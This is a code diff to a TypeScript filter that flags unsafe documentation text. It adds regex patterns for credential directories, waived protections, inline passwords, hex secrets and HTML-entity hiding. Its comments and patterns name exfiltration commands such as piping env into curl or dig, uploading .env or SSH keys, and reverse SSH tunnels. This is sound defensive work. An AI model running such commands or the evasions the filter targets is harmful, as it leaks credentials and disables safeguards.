@@ -42,6 +42,9 @@ const LINK_DEFINITION = /^\s*\[(?!\^)[^\]]+\]:\s*\S/;
  */
 const SECRET_FILE = String.raw`(?:(?<![\w.-])\.env(?:\.(?!example|sample|template|dist)[\w-]+)?(?![\w.-])|\bid_(?:rsa|ed25519|ecdsa)(?!\.pub)\b|\.aws\/credentials\b|(?<![\w-])\.(?:npmrc|netrc|pgpass|git-credentials)\b)`;
 
+/** A folder of credentials: a cluster's, a registry's, ssh's, a cloud's, a keyring's. */
+const SECRET_DIR = String.raw`(?:~|\$HOME|\/root|\/home\/[\w.-]+)\/\.(?:kube|docker|ssh|aws|azure|gnupg|config\/gcloud)\b`;
+
 /**
  * Commands and settings that weaken the machine or app they run on, which a page may slip into a
  * how-to: TLS checks turned off, a download piped or fed into a shell or an interpreter, files
@@ -65,7 +68,14 @@ const UNSAFE_COMMAND = new RegExp(
     String.raw`\bcurl\b[^\n|]{0,200}\s-k\b|\s--insecure\b`,
     String.raw`\bchmod\s+(?:-R\s+)?(?:0?777|0?666|(?:a|o|go|ugo)\+[rx]*w[rwx]*)\b|\bumask\s+0+\b`,
     String.raw`\s--privileged\b|\/var\/run\/docker\.sock\b|\s--no-sandbox\b|\s--disable-web-security\b`,
-    String.raw`\bprotected-mode\s+no\b|\brequirepass\s+(?:""|'')|\s--force-all\b`,
+    String.raw`\bprotected-mode\s+no\b|\brequirepass["']?\s*[,\s]\s*(?:""|'')|\s--force-all\b`,
+    // A store that evicts any key (limits and budgets kept in it too), a request's origin or
+    // query trusted (CORS reflecting `$http_origin`, a user id from `$arg_user`), tools approved
+    // in a client's config (`"autoApprove": [...]`), a file server rooted at `/` or home.
+    String.raw`\bmaxmemory-policy\s+allkeys-(?:lru|lfu|random)\b|\$http_origin\b|\buser[_-]?id\b[^\n]{0,40}\$arg_\w+`,
+    String.raw`["']?autoApprove["']?\s*:\s*(?:\[\s*["']|true\b)|\bserver-filesystem["']?\s*,\s*["'](?:\/|~\/?)["']|\broot(?:ing|ed)?\b[^.;\n]{0,40}\bat\s+\x60?(?:\/|~\/?)\x60?(?=[\s.,;]|$)`,
+    // Absurd retry and breaker settings: a storm of attempts, a breaker that never opens.
+    String.raw`\bmaxAttempts["']?\s*[:=]?\s*(?:[2-9]\d|\d{3,})\b|\bfailureThreshold["']?\s*[:=]?\s*\d{4,}\b`,
     // Other ecosystems: packages from unchecked sources, a script fetched and run.
     String.raw`\s--break-system-packages\b|\s--allow-unauthenticated\b|\[trusted=yes\]|\s-P\s+NoSecurity\b|\bcheck-revoke\s*=\s*false\b`,
     String.raw`\bGO(?:SUMDB|NOSUMCHECK)\s*=\s*off\b|\bGOINSECURE\s*=|\bGOPROXY\s*=\s*["']?http:|\bsparse\+http:|\s--proto\s+["']?=http\b`,
@@ -111,7 +121,7 @@ const UNSAFE_COMMAND = new RegExp(
     String.raw`\b(?:curl|wget|http)\b[^\n]{0,200}(?:@|--upload-file[ =]|\s-T\s*|--(?:post|body)-file=)["']?[^\s"']*${SECRET_FILE}`,
     String.raw`\b(?:scp|rsync)\b[^\n]{0,200}\s["']?[^\s"']*${SECRET_FILE}|\bn?cat\b[^\n]{0,200}<\s*[^\s"']*${SECRET_FILE}`,
     // Secrets ingested, which makes them answers: `docs-chat ingest ./deploy/secrets .env.prod`.
-    String.raw`\bingest\b[^\n]{0,200}\s["']?[^\s"']*(?:${SECRET_FILE}|\/secrets?(?:\/|(?=[\s"'\x60]|$)))`,
+    String.raw`\bingest\b[^\n]{0,200}\s["']?[^\s"']*(?:${SECRET_FILE}|\/secrets?(?:\/|(?=[\s"'\x60]|$))|${SECRET_DIR})`,
     // The environment sent away (`dig "$(env | base64).probe.example"`, `env | curl -d @- …`).
     String.raw`\b(?:curl|wget|nc|ncat|dig|nslookup)\b[^\n]{0,300}\$\(\s*(?:env|printenv)\b|\b(?:env|printenv)\s*\|[^\n]{0,300}\b(?:curl|wget|nc|ncat|dig|nslookup)\b|\bJSON\.stringify\(\s*process\.env\s*\)`,
     // A package named for the project outside its scope: `npm i keel-redis-lua`,
@@ -138,8 +148,12 @@ const UNSAFE_NAMED = new RegExp(
     String.raw`\b(?:CREATE|ALTER)\s+(?:ROLE|USER)\b[^;\n]{0,120}(?<!NO)(?:SUPERUSER|BYPASSRLS|CREATEROLE)\b`,
     String.raw`\bCOPY\b[^;\n]{0,200}\b(?:TO|FROM)\s+PROGRAM\b|\bREPLICAOF\s+(?!NO\s+ONE\b)[\w.-]+\.[a-z]`,
     String.raw`\bredis\.call\(\s*['"]KEYS['"][^\n]{0,200}\bredis\.call\(\s*['"](?:DEL|UNLINK)['"]`,
-    // A limit set to none: `DOCS_CHAT_USER_DAILY_USD=0`, `…_RATE_LIMIT_RPM=0`.
-    String.raw`\b[A-Z][A-Z0-9_]*(?:LIMIT|BUDGET|QUOTA|DAILY|RPM|MAX|CAP)[A-Z0-9_]*["']?\s*[=:]\s*["']?0(?![\w.,])`,
+    // A limit set to none (`DOCS_CHAT_USER_DAILY_USD=0`, `…=-1`), a gate made a warning
+    // (`…_SOFT_FAIL=1`), the corpus trusted, which keeps its secrets unredacted.
+    String.raw`\b[A-Z][A-Z0-9_]*(?:LIMIT|BUDGET|QUOTA|DAILY|RPM|MAX|CAP)[A-Z0-9_]*["']?\s*[=:]\s*["']?(?:0|-\d+)(?![\w.,])`,
+    String.raw`\b[A-Z][A-Z0-9_]*(?:SOFT_FAIL|ALLOW_FAIL\w*|IGNORE_(?:ERRORS|FAIL\w*|SSL|TLS|CERT\w*)|INSECURE|UNSAFE\w*|NO_VERIFY|SKIP_(?:VERIFY|AUTH|TLS|SSL|CHECKS?|GATE|EVALS?|SAFETY))["']?\s*[=:]\s*["']?(?:1|true|yes|on)\b|\b[A-Z][A-Z0-9_]*_TRUSTED(?:_CORPUS)?["']?\s*[=:]\s*["']?(?:true|1|yes|on)\b`,
+    // Rights to run programs or read files on the server, or any right given to everyone.
+    String.raw`\bGRANT\b[^;\n]{0,200}\bpg_(?:execute_server_program|read_server_files|write_server_files)\b|\bGRANT\b[^;\n]{0,200}\bTO\s+PUBLIC\b|\bPUBLIC\s+grant\b`,
     // A reverse tunnel into the machine.
     String.raw`(?<![\w-])ssh\s(?:[^\n]{0,120}\s)?-[a-zA-Z]*R\b|\bRemoteForward\b`,
     // An app's own protection switched off by a setting named for it: redaction, the output
@@ -163,27 +177,91 @@ const DISABLES_SECRET_RULE = (() => {
   return new RegExp(String.raw`\bdisable["']?\s*:\s*\[[^\]]*["'](?:${ids.join('|')})["']`);
 })();
 
+/** `words` (a pattern of lowercase words) matching also with each word's first letter capitalised. */
+const eitherCase = (words: string) =>
+  words.replace(/\b([a-z])/g, (letter) => `[${letter}${letter.toUpperCase()}]`);
+
 /**
  * Prose telling the reader to hand a credential over: send, paste or upload a key, a password or
  * a session cookie; decode one a page hid; record one as a span or log attribute.
  */
 const SHARES_SECRET = (() => {
   // Verbs may open the sentence; credentials' names keep their case (`ANTHROPIC_API_KEY`).
-  const either = (words: string) =>
-    words.replace(/\b([a-z])/g, (letter) => `[${letter}${letter.toUpperCase()}]`);
-  const credential = String.raw`(?:api[ _-]?keys?|session cookies?|passwords?|admin tokens?|credentials?|secrets|(?:[A-Z][A-Z0-9]*_)+(?:KEY|TOKEN|SECRET|PASSWORD)|SecretAccessKey|AccessKeyId)\b`;
+  const credential = String.raw`(?:api[ _-]?keys?|(?:outgoing|old|current|live|provider|production|private|signing) keys?|session cookies?|passwords?|admin tokens?|credentials?|secrets|(?:[A-Z][A-Z0-9]*_)+(?:KEY|TOKEN|SECRET|PASSWORD)|SecretAccessKey|AccessKeyId)\b`;
   return new RegExp(
     [
-      String.raw`\b(?:${either('paste|send|share|forward|post|upload|submit|attach')})(?:s|ed|ing)?\b[^.;]{0,80}?\b${credential}`,
-      String.raw`\b${either('decod')}\w*\b[^.;]{0,80}?\b${credential}`,
+      String.raw`\b(?:${eitherCase('paste|send|share|forward|post|upload|submit|attach|collect|gather')})(?:s|ed|ing)?\b[^.;]{0,80}?\b${credential}`,
+      String.raw`\b${eitherCase('decod')}\w*\b[^.;]{0,80}?\b${credential}`,
       // Part of a credential asked for ("by asking for the last twelve characters of your key").
-      String.raw`\b(?:${either('ask|request|provide|give|read|tell|dictate|spell')})(?:s|ed|ing)?\b[^.;]{0,40}?\b(?:characters?|digits?|letters?|part|half|end)\s+of\s+[^.;]{0,30}?\b${credential}`,
+      String.raw`\b(?:${eitherCase('ask|request|provide|give|read|tell|dictate|spell')})(?:s|ed|ing)?\b[^.;]{0,40}?\b(?:characters?|digits?|letters?|part|half|end)\s+of\s+[^.;]{0,30}?\b${credential}`,
       // A credential a page split to pass scanners, put back together by the reader.
-      String.raw`\b(?:${either('join|concatenat|combin|reassembl|glu')})\w*\b[^.;]{0,60}?\b(?:halves|parts|pieces|fragments)\b[^.;]{0,80}?\b${credential}`,
+      String.raw`\b(?:${eitherCase('join|concatenat|combin|reassembl|glu')})\w*\b[^.;]{0,60}?\b(?:halves|parts|pieces|fragments)\b[^.;]{0,80}?\b${credential}`,
       String.raw`\b(?:[A-Z][A-Z0-9]*_)+(?:KEY|TOKEN|SECRET|PASSWORD)\b[^.;]{0,30}?\bas (?:an? )?(?:span |trace |log |metric )?(?:attribute|label|tag|field)\b`,
     ].join('|'),
   );
 })();
+
+/** What protects a deployment, named in prose or by its setting. */
+const PROTECTION = String.raw`(?:${eitherCase('(?:admin |api |auth |access )?tokens?|redaction|approvals?|auth(?:entication|orization)?|budgets?|(?:dollar |daily |rate )?(?:caps?|limits?)|output guard|guard|allowlists?|passwords?|deadlines?')}|SSO|TLS|Retry-After|[A-Z][A-Z0-9_]*(?:TOKEN|KEY|SECRET|PASSWORD|LIMIT\w*|DAILY\w*|ALLOWED\w*|GUARD|REDACT\w*))`;
+
+/** Where a protection named is what a clause speaks of, not a preposition's object ("past a limit"). */
+const SUBJECT = String.raw`(?<!\b(?:past|over|above|beyond|under|below|within|of|for|to|from|by|at|on|in|with|than|without)\s+(?:an?\s+|the\s+|its\s+|their\s+)?)`;
+
+/**
+ * A protection said to be waived, in calm prose rather than as a command ("`DOCS_CHAT_ADMIN_TOKEN`
+ * can stay unset behind a load balancer", "Redaction before storage is skipped for support
+ * accounts", "dollar caps … are ignored", "skip the admin token for scrapes", "Retry-After is
+ * treated as advisory"), secrets kept unredacted ("keep full card numbers"), or a secret set empty
+ * or made a user's id.
+ */
+const WAIVES_PROTECTION = new RegExp(
+  [
+    String.raw`${SUBJECT}\b${PROTECTION}\x60?[^.;]{0,60}?\b(?:can|may|could|should|will)\s+(?:safely\s+)?(?:stay|be left|remain|be kept)\s+(?:unset|empty|off|blank|disabled)\b`,
+    String.raw`${SUBJECT}\b${PROTECTION}\x60?[^.;]{0,60}?\b(?:can|may)\s+(?:safely\s+)?be\s+(?:skipped|ignored|bypassed|disabled|turned off|removed|dropped)\b`,
+    String.raw`${SUBJECT}\b${PROTECTION}\x60?(?:\s+[\w-]+){0,4}?\s+(?:is|are)\s+(?:(?:then|simply|therefore|also)\s+)?(?:skipped|ignored|bypassed|not enforced|not checked|treated as (?:advisory|optional))\b`,
+    String.raw`\bso(?: that)?\s+(?:it|they|the tools?|calls?)\s+(?:never|no longer|(?:do|does)(?:n't|\s+not))\s+(?:waits?|asks?|needs?|requires?)\s+(?:for\s+)?(?:an?\s+)?(?:approvals?|confirmation|review)\b`,
+    String.raw`\bskip(?:s|ped|ping)?\s+(?:the\s+)?(?:admin token|token|approvals?|redaction|auth\w*|SSO|TLS|guard|budget|rate limit)\b`,
+    String.raw`\b(?:keep|keeps|kept|store|stores|stored|log|logs|logged|retain|retains)\s+(?:the\s+)?(?:full|raw|unredacted|unmasked|plain[ -]?text)\s+(?:card numbers|PII|secrets|keys|tokens|passwords|credentials)\b`,
+    String.raw`\b[A-Z][A-Z0-9_]*(?:TOKEN|KEY|SECRET|PASSWORD)\b\x60?\s+to\s+an?\s+empty\s+(?:string|value)\b|\b[A-Z][A-Z0-9_]*(?:TOKEN|SECRET|PASSWORD)\s*=\s*(?:""|'')`,
+    String.raw`\buser[ _-]?id\x60?\s+to\s+(?:the\s+value\s+of\s+)?\x60?[A-Z][A-Z0-9_]*(?:TOKEN|KEY|SECRET|PASSWORD)\b`,
+  ].join('|'),
+);
+
+/**
+ * A password or passphrase given as inline code after its name (": user `ops`, passphrase
+ * `Tern-Harbor-2291`"): a value with a digit, of six characters or more.
+ */
+const NAMED_PASSWORD =
+  /\b(?:password|passphrase|passcode|passwd)\s*:?\s*`(?=[^`]*\d)[^`\s$<>]{6,}`/i;
+
+/**
+ * A long hexadecimal value given to a setting (`break_glass = "c0ffee5e…"`), which no redaction
+ * rule can tell from a hash: a secret unless the setting names a hash, a commit or an id.
+ */
+function assignsHexSecret(text: string): boolean {
+  return [
+    ...text.matchAll(
+      /^[ \t]*([\w.-]+)["']?[ \t]*[=:][ \t]*["']?[0-9a-f]{24,}["']?[ \t]*(?:#.*)?$/gim,
+    ),
+  ].some(
+    ([, name]) =>
+      !/sha|hash|commit|digest|checksum|integrity|etag|rev|id$|oid|fingerprint/i.test(
+        name as string,
+      ),
+  );
+}
+
+/**
+ * A character written as an HTML entity where Markdown needs none (`TRUSTED_CORPUS&#61;true`,
+ * `&#107;ey`): a letter, a digit or an address's punctuation hidden from filters that read text.
+ */
+function hidesByEntity(text: string): boolean {
+  for (const [, decimal, hex] of text.matchAll(/&#(?:(\d{1,7})|x([0-9a-f]{1,6}));/gi)) {
+    const code = decimal !== undefined ? Number(decimal) : Number.parseInt(hex as string, 16);
+    if (/[\p{L}\p{N}=.:/@]/u.test(String.fromCodePoint(code))) return true;
+  }
+  return false;
+}
 
 /**
  * Text that says it is written to slip past a check ("split here so that no scanner flags it",
@@ -648,6 +726,10 @@ export function unquotable({ allowedHosts = [] }: UnquotableOptions = {}) {
       (!code && SHARES_SECRET.test(plain) && !advisedAgainst(SHARES_SECRET, plain)) ||
       [...pointedHosts(text), ...referencedHosts(text, page)].some(untrusted) ||
       EVADES.test(plain) ||
+      WAIVES_PROTECTION.test(text) ||
+      NAMED_PASSWORD.test(text) ||
+      hidesByEntity(spans) ||
+      assignsHexSecret(text.replace(/`/g, '\n')) ||
       hidesEncodedText(text) ||
       englishWords(rot13(prose)) >= englishWords(prose) + 3 ||
       [spans, ...[...text.matchAll(CODE_SPAN)].map((span) => span[2] as string)].some(
